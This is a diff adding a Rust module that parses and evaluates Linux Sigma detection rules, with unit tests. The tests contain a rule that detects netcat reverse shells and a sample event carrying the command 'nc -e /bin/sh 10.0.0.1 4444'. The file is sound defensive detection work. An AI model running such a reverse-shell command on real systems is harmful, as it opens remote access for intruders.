@@ -0,0 +1,650 @@
+//! Evaluation of a subset of Sigma rules
+//!
+//! Rules for the `linux` product in the `process_creation` and
+//! `file_event` categories are supported. Selections are maps (or
+//! lists of maps) of fields to values with the `contains`,
+//! `startswith`, `endswith`, `all`, `re`, and `cased` modifiers.
+//! Conditions may combine selections using `and`, `or`, `not`,
+//! parentheses, and `1 of`/`all of` with `them` or name patterns.
+
+use std::borrow::Cow;
+use std::fs;
+use std::io;
+use std::path::PathBuf;
+
+use regex::bytes::Regex;
+use serde::{Deserialize, Serialize};
+use serde_yaml_ng::Value as Yaml;
+
+use thiserror::Error;
+
+#[derive(Debug, Error)]
+pub enum SigmaError {
+    #[error("{0}: {1}")]
+    Io(PathBuf, io::Error),
+    #[error("{0}: {1}")]
+    Yaml(PathBuf, serde_yaml_ng::Error),
+    #[error("{0}: {1}")]
+    Rule(PathBuf, String),
+}
+
+/// Configuration of the Sigma analyzer
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+pub struct Sigma {
+    /// Rule files or directories containing `*.yml`, `*.yaml` files
+    #[serde(default)]
+    pub rules: Vec<PathBuf>,
+}
+
+impl Sigma {
+    /// Reads all rules. Rules for other products or categories are
+    /// ignored, rules that use unsupported features are returned
+    /// as errors along with the rules that could be loaded.
+    pub fn load(&self) -> Result<(Vec<SigmaRule>, Vec<SigmaError>), SigmaError> {
+        let mut files = vec![];
+        for path in &self.rules {
+            let err = |e| SigmaError::Io(path.clone(), e);
+            if fs::metadata(path).map_err(err)?.is_dir() {
+                let mut entries = fs::read_dir(path)
+                    .map_err(err)?
+                    .map(|e| Ok(e?.path()))
+                    .collect::<Result<Vec<_>, io::Error>>()
+                    .map_err(err)?;
+                entries.retain(|p| {
+                    p.extension()
+                        .is_some_and(|ext| ext == "yml" || ext == "yaml")
+                });
+                entries.sort();
+                files.extend(entries);
+            } else {
+                files.push(path.clone());
+            }
+        }
+        let mut rules = vec![];
+        let mut errors = vec![];
+        for file in files {
+            let text = fs::read_to_string(&file).map_err(|e| SigmaError::Io(file.clone(), e))?;
+            match SigmaRule::parse(&text) {
+                Ok(Some(rule)) => rules.push(rule),
+                Ok(None) => {}
+                Err(e) => errors.push(match e {
+                    ParseError::Yaml(e) => SigmaError::Yaml(file, e),
+                    ParseError::Rule(e) => SigmaError::Rule(file, e),
+                }),
+            }
+        }
+        Ok((rules, errors))
+    }
+}
+
+#[derive(Debug)]
+enum ParseError {
+    Yaml(serde_yaml_ng::Error),
+    Rule(String),
+}
+
+impl From<serde_yaml_ng::Error> for ParseError {
+    fn from(e: serde_yaml_ng::Error) -> Self {
+        ParseError::Yaml(e)
+    }
+}
+
+fn rule_error<T>(msg: impl Into<String>) -> Result<T, ParseError> {
+    Err(ParseError::Rule(msg.into()))
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Category {
+    ProcessCreation,
+    FileEvent,
+}
+
+/// Fields that can be used in rules
+const FIELDS: &[&str] = &[
+    "Image",
+    "CommandLine",
+    "ParentImage",
+    "CurrentDirectory",
+    "User",
+    "ProcessId",
+    "ParentProcessId",
+    "TargetFilename",
+];
+
+/// Values of an event, by Sigma field name. Fields may occur more
+/// than once, e.g. `TargetFilename`.
+pub type Fields<'a> = Vec<(&'static str, Cow<'a, [u8]>)>;
+
+#[derive(Clone, Debug)]
+struct FieldMatch {
+    field: String,
+    /// Field must not be present
+    null: bool,
+    patterns: Vec<Regex>,
+    /// All patterns must match instead of any
+    all: bool,
+}
+
+impl FieldMatch {
+    fn matches(&self, fields: &Fields) -> bool {
+        let mut values = fields
+            .iter()
+            .filter(|(k, _)| *k == self.field)
+            .map(|(_, v)| v.as_ref())
+            .peekable();
+        if self.null {
+            return values.peek().is_none();
+        }
+        let values: Vec<&[u8]> = values.collect();
+        let matches = |re: &Regex| values.iter().any(|v| re.is_match(v));
+        match self.all {
+            true => self.patterns.iter().all(matches),
+            false => self.patterns.iter().any(matches),
+        }
+    }
+}
+
+/// Any of the alternatives, all field matches within an alternative
+#[derive(Clone, Debug)]
+struct Selection(Vec<Vec<FieldMatch>>);
+
+impl Selection {
+    fn matches(&self, fields: &Fields) -> bool {
+        self.0
+            .iter()
+            .any(|alt| alt.iter().all(|m| m.matches(fields)))
+    }
+}
+
+#[derive(Clone, Debug, PartialEq)]
+enum Condition {
+    Selection(usize),
+    Not(Box<Condition>),
+    And(Vec<Condition>),
+    Or(Vec<Condition>),
+    AllOf(Vec<usize>),
+}
+
+#[derive(Clone, Debug)]
+pub struct SigmaRule {
+    /// Rule ID, or title if the rule has no ID
+    pub id: String,
+    pub category: Category,
+    /// ATT&CK technique IDs from `attack.t*` tags, e.g. `T1059.004`
+    pub techniques: Vec<String>,
+    selections: Vec<Selection>,
+    condition: Condition,
+}
+
+impl SigmaRule {
+    /// Parses a rule. Returns `None` for rules that are not about
+    /// Linux process creation or file events.
+    fn parse(text: &str) -> Result<Option<Self>, ParseError> {
+        let doc: Yaml = serde_yaml_ng::from_str(text)?;
+        let str_field = |v: &Yaml, name: &str| v.get(name).and_then(Yaml::as_str).map(String::from);
+        let logsource = doc.get("logsource");
+        if logsource.and_then(|l| str_field(l, "product")).as_deref() != Some("linux") {
+            return Ok(None);
+        }
+        let category = match logsource.and_then(|l| str_field(l, "category")).as_deref() {
+            Some("process_creation") => Category::ProcessCreation,
+            Some("file_event") => Category::FileEvent,
+            _ => return Ok(None),
+        };
+        let Some(id) = str_field(&doc, "id").or_else(|| str_field(&doc, "title")) else {
+            return rule_error("rule has neither id nor title");
+        };
+        let techniques = match doc.get("tags").and_then(Yaml::as_sequence) {
+            Some(tags) => tags
+                .iter()
+                .filter_map(Yaml::as_str)
+                .filter_map(|t| t.strip_prefix("attack.t"))
+                .filter(|t| t.starts_with(|c: char| c.is_ascii_digit()))
+                .map(|t| format!("T{}", t.to_ascii_uppercase()))
+                .collect(),
+            None => vec![],
+        };
+        let Some(detection) = doc.get("detection").and_then(Yaml::as_mapping) else {
+            return rule_error("no detection");
+        };
+        let mut names = vec![];
+        let mut selections = vec![];
+        let mut condition = None;
+        for (k, v) in detection {
+            match k.as_str() {
+                Some("condition") => condition = Some(v),
+                Some("timeframe") => return rule_error("timeframe is not supported"),
+                Some(name) => {
+                    names.push(name.to_string());
+                    selections.push(parse_selection(v)?);
+                }
+                None => return rule_error("invalid selection name"),
+            }
+        }
+        let condition = match condition {
+            Some(Yaml::String(c)) => parse_condition(c, &names)?,
+            Some(Yaml::Sequence(cs)) => Condition::Or(
+                cs.iter()
+                    .map(|c| match c.as_str() {
+                        Some(c) => parse_condition(c, &names),
+                        None => rule_error("invalid condition"),
+                    })
+                    .collect::<Result<_, _>>()?,
+            ),
+            _ => return rule_error("no condition"),
+        };
+        Ok(Some(SigmaRule {
+            id,
+            category,
+            techniques,
+            selections,
+            condition,
+        }))
+    }
+
+    /// Returns true if the rule matches an event of `category`
+    pub fn matches(&self, category: Category, fields: &Fields) -> bool {
+        category == self.category && self.eval(&self.condition, fields)
+    }
+
+    fn eval(&self, c: &Condition, fields: &Fields) -> bool {
+        match c {
+            Condition::Selection(i) => self.selections[*i].matches(fields),
+            Condition::Not(c) => !self.eval(c, fields),
+            Condition::And(cs) => cs.iter().all(|c| self.eval(c, fields)),
+            Condition::Or(cs) => cs.iter().any(|c| self.eval(c, fields)),
+            Condition::AllOf(is) => is.iter().all(|i| self.selections[*i].matches(fields)),
+        }
+    }
+}
+
+fn parse_selection(v: &Yaml) -> Result<Selection, ParseError> {
+    match v {
+        Yaml::Mapping(_) => Ok(Selection(vec![parse_field_matches(v)?])),
+        Yaml::Sequence(alts) if alts.iter().all(Yaml::is_mapping) => Ok(Selection(
+            alts.iter()
+                .map(parse_field_matches)
+                .collect::<Result<_, _>>()?,
+        )),
+        _ => rule_error("keyword selections are not supported"),
+    }
+}
+
+fn parse_field_matches(v: &Yaml) -> Result<Vec<FieldMatch>, ParseError> {
+    let mut matches = vec![];
+    for (k, v) in v.as_mapping().into_iter().flatten() {
+        let Some(key) = k.as_str() else {
+            return rule_error("invalid field name");
+        };
+        let mut parts = key.split('|');
+        let field = parts.next().unwrap_or_default();
+        if !FIELDS.contains(&field) {
+            return rule_error(format!("field {field} is not supported"));
+        }
+        let mut modifier = None;
+        let mut all = false;
+        let mut cased = false;
+        for m in parts {
+            match m {
+                "contains" | "startswith" | "endswith" | "re" if modifier.is_none() => {
+                    modifier = Some(m)
+                }
+                "all" => all = true,
+                "cased" => cased = true,
+                _ => return rule_error(format!("modifier {m} is not supported")),
+            }
+        }
+        let values: Vec<&Yaml> = match v {
+            Yaml::Sequence(vs) => vs.iter().collect(),
+            v => vec![v],
+        };
+        if let [Yaml::Null] = values[..] {
+            matches.push(FieldMatch {
+                field: field.into(),
+                null: true,
+                patterns: vec![],
+                all,
+            });
+            continue;
+        }
+        let patterns = values
+            .into_iter()
+            .map(|v| {
+                let s = match v {
+                    Yaml::String(s) => s.clone(),
+                    Yaml::Number(n) => n.to_string(),
+                    Yaml::Bool(b) => b.to_string(),
+                    _ => return rule_error(format!("invalid value for {field}")),
+                };
+                value_regex(&s, modifier, cased).or_else(|e| rule_error(format!("{field}: {e}")))
+            })
+            .collect::<Result<_, _>>()?;
+        matches.push(FieldMatch {
+            field: field.into(),
+            null: false,
+            patterns,
+            all,
+        });
+    }
+    Ok(matches)
+}
+
+/// Turns a value with `*` and `?` wildcards into a regular expression
+fn value_regex(value: &str, modifier: Option<&str>, cased: bool) -> Result<Regex, regex::Error> {
+    if modifier == Some("re") {
+        return Regex::new(value);
+    }
+    let mut re = String::from(if cased { "(?s)" } else { "(?si)" });
+    if !matches!(modifier, Some("contains" | "endswith")) {
+        re.push('^');
+    }
+    let mut chars = value.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '*' => re.push_str(".*"),
+            '?' => re.push('.'),
+            '\\' => match chars.clone().next() {
+                Some(e @ ('*' | '?' | '\\')) => {
+                    chars.next();
+                    re.push_str(&regex::escape(&e.to_string()));
+                }
+                _ => re.push_str(r"\\"),
+            },
+            c => re.push_str(&regex::escape(&c.to_string())),
+        }
+    }
+    if !matches!(modifier, Some("contains" | "startswith")) {
+        re.push('$');
+    }
+    Regex::new(&re)
+}
+
+/// Splits a condition into words and parentheses
+fn tokenize(s: &str) -> Vec<&str> {
+    let mut tokens = vec![];
+    for word in s.split_whitespace() {
+        let mut rest = word;
+        while !rest.is_empty() {
+            match rest.find(['(', ')']) {
+                Some(0) => {
+                    tokens.push(&rest[..1]);
+                    rest = &rest[1..];
+                }
+                Some(n) => {
+                    tokens.push(&rest[..n]);
+                    rest = &rest[n..];
+                }
+                None => {
+                    tokens.push(rest);
+                    rest = "";
+                }
+            }
+        }
+    }
+    tokens
+}
+
+fn parse_condition(s: &str, names: &[String]) -> Result<Condition, ParseError> {
+    let tokens = tokenize(s);
+    let mut p = ConditionParser {
+        tokens: &tokens,
+        pos: 0,
+        names,
+    };
+    let c = p.or()?;
+    if p.pos != tokens.len() {
+        return rule_error(format!("unexpected {} in condition", tokens[p.pos]));
+    }
+    Ok(c)
+}
+
+/// Recursive descent parser: `or` binds weaker than `and`, which
+/// binds weaker than `not`.
+struct ConditionParser<'a> {
+    tokens: &'a [&'a str],
+    pos: usize,
+    names: &'a [String],
+}
+
+impl<'a> ConditionParser<'a> {
+    fn peek(&self) -> Option<&'a str> {
+        self.tokens.get(self.pos).copied()
+    }
+
+    fn next(&mut self) -> Result<&'a str, ParseError> {
+        let t = self.peek();
+        self.pos += 1;
+        t.map_or_else(|| rule_error("condition ends unexpectedly"), Ok)
+    }
+
+    fn or(&mut self) -> Result<Condition, ParseError> {
+        let mut cs = vec![self.and()?];
+        while self.peek() == Some("or") {
+            self.pos += 1;
+            cs.push(self.and()?);
+        }
+        Ok(if cs.len() == 1 {
+            cs.remove(0)
+        } else {
+            Condition::Or(cs)
+        })
+    }
+
+    fn and(&mut self) -> Result<Condition, ParseError> {
+        let mut cs = vec![self.not()?];
+        while self.peek() == Some("and") {
+            self.pos += 1;
+            cs.push(self.not()?);
+        }
+        Ok(if cs.len() == 1 {
+            cs.remove(0)
+        } else {
+            Condition::And(cs)
+        })
+    }
+
+    fn not(&mut self) -> Result<Condition, ParseError> {
+        if self.peek() == Some("not") {
+            self.pos += 1;
+            return Ok(Condition::Not(Box::new(self.not()?)));
+        }
+        self.primary()
+    }
+
+    fn primary(&mut self) -> Result<Condition, ParseError> {
+        match self.next()? {
+            "(" => {
+                let c = self.or()?;
+                match self.next()? {
+                    ")" => Ok(c),
+                    t => rule_error(format!("expected ) instead of {t} in condition")),
+                }
+            }
+            q @ ("1" | "all") => {
+                let all = q == "all";
+                if self.next()? != "of" {
+                    return rule_error("expected of in condition");
+                }
+                let pattern = self.next()?;
+                let selected = self.select(pattern)?;
+                Ok(match all {
+                    true => Condition::AllOf(selected),
+                    false => {
+                        Condition::Or(selected.into_iter().map(Condition::Selection).collect())
+                    }
+                })
+            }
+            name => match self.names.iter().position(|n| n == name) {
+                Some(i) => Ok(Condition::Selection(i)),
+                None => rule_error(format!("unknown selection {name} in condition")),
+            },
+        }
+    }
+
+    /// Returns the selections matching `them` or a name pattern
+    fn select(&self, pattern: &str) -> Result<Vec<usize>, ParseError> {
+        let selected: Vec<usize> = self
+            .names
+            .iter()
+            .enumerate()
+            .filter(|(_, n)| match pattern {
+                "them" => !n.starts_with('_'),
+                p => match p.strip_suffix('*') {
+                    Some(prefix) => n.starts_with(prefix),
+                    None => n.as_str() == p,
+                },
+            })
+            .map(|(i, _)| i)
+            .collect();
+        if selected.is_empty() {
+            return rule_error(format!("no selection matches {pattern}"));
+        }
+        Ok(selected)
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    fn fields(values: &[(&'static str, &'static str)]) -> Fields<'static> {
+        values
+            .iter()
+            .map(|(k, v)| (*k, Cow::from(v.as_bytes())))
+            .collect()
+    }
+
+    #[test]
+    fn sigma() {
+        let rule = SigmaRule::parse(
+            r#"
+title: Reverse shell via netcat
+id: 6d1a2f1c-0000-4000-8000-000000000001
+tags:
+    - attack.execution
+    - attack.t1059.004
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection_nc:
+        Image|endswith:
+            - '/nc'
+            - '/ncat'
+    selection_args:
+        CommandLine|contains|all:
+            - ' -e '
+            - '/bin/'
+    filter_local:
+        CommandLine|contains: '127.0.0.1'
+    condition: all of selection_* and not filter_local
+"#,
+        )
+        .unwrap()
+        .unwrap();
+        assert_eq!(rule.id, "6d1a2f1c-0000-4000-8000-000000000001");
+        assert_eq!(rule.techniques, ["T1059.004"]);
+        let ev = fields(&[
+            ("Image", "/usr/bin/nc"),
+            ("CommandLine", "nc -e /bin/sh 10.0.0.1 4444"),
+        ]);
+        assert!(rule.matches(Category::ProcessCreation, &ev));
+        assert!(!rule.matches(Category::FileEvent, &ev));
+        let ev = fields(&[
+            ("Image", "/usr/bin/NC"),
+            ("CommandLine", "nc -e /bin/sh 127.0.0.1 4444"),
+        ]);
+        assert!(!rule.matches(Category::ProcessCreation, &ev));
+        let ev = fields(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc -l 4444")]);
+        assert!(!rule.matches(Category::ProcessCreation, &ev));
+
+        let rule = SigmaRule::parse(
+            r#"
+title: Cron file created
+logsource:
+    product: linux
+    category: file_event
+detection:
+    selection:
+        - TargetFilename|startswith: '/etc/cron.d/'
+        - TargetFilename: '/var/spool/cron/*'
+    filter:
+        Image: null
+    condition: selection and not 1 of filter*
+"#,
+        )
+        .unwrap()
+        .unwrap();
+        assert_eq!(rule.id, "Cron file created");
+        let ev = fields(&[
+            ("Image", "/usr/bin/vi"),
+            ("TargetFilename", "/tmp/x"),
+            ("TargetFilename", "/var/spool/cron/root"),
+        ]);
+        assert!(rule.matches(Category::FileEvent, &ev));
+        let ev = fields(&[("TargetFilename", "/etc/cron.d/x")]);
+        assert!(!rule.matches(Category::FileEvent, &ev));
+
+        assert!(SigmaRule::parse(
+            "title: x\nlogsource:\n  product: windows\n  category: process_creation\n"
+        )
+        .unwrap()
+        .is_none());
+        for (detection, error) in [
+            (
+                "selection:\n    Hashes: x\n  condition: selection",
+                "Hashes",
+            ),
+            (
+                "selection:\n    Image|base64: x\n  condition: selection",
+                "base64",
+            ),
+            ("selection:\n    - x\n  condition: selection", "keyword"),
+            (
+                "selection:\n    Image: x\n  condition: selection or",
+                "ends",
+            ),
+            ("selection:\n    Image: x\n  condition: sel", "unknown"),
+            ("selection:\n    Image: x\n  condition: (selection", "ends"),
+        ] {
+            let text = format!(
+                "title: x\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  {detection}\n"
+            );
+            match SigmaRule::parse(&text) {
+                Err(ParseError::Rule(e)) => assert!(e.contains(error), "{e}"),
+                r => panic!("{detection}: {r:?}"),
+            }
+        }
+    }
+
+    #[test]
+    fn condition() {
+        let names: Vec<String> = ["a", "b", "c"].iter().map(|s| s.to_string()).collect();
+        use Condition::*;
+        assert_eq!(
+            parse_condition("a or b and not c", &names).unwrap(),
+            Or(vec![
+                Selection(0),
+                And(vec![Selection(1), Not(Box::new(Selection(2)))])
+            ])
+        );
+        assert_eq!(
+            parse_condition("(a or b) and c", &names).unwrap(),
+            And(vec![Or(vec![Selection(0), Selection(1)]), Selection(2)])
+        );
+        assert_eq!(
+            parse_condition("all of them", &names).unwrap(),
+            AllOf(vec![0, 1, 2])
+        );
+        // `\*` is a literal `*`, other backslashes are kept.
+        assert!(value_regex(r"C:\Windows\*", None, false)
+            .unwrap()
+            .is_match(br"c:\windows*"));
+        assert!(!value_regex(r"C:\Windows\*", None, false)
+            .unwrap()
+            .is_match(br"c:\windows\x"));
+        assert!(value_regex(r"C:\Windows\\*", None, false)
+            .unwrap()
+            .is_match(br"c:\windows\x"));
+    }
+}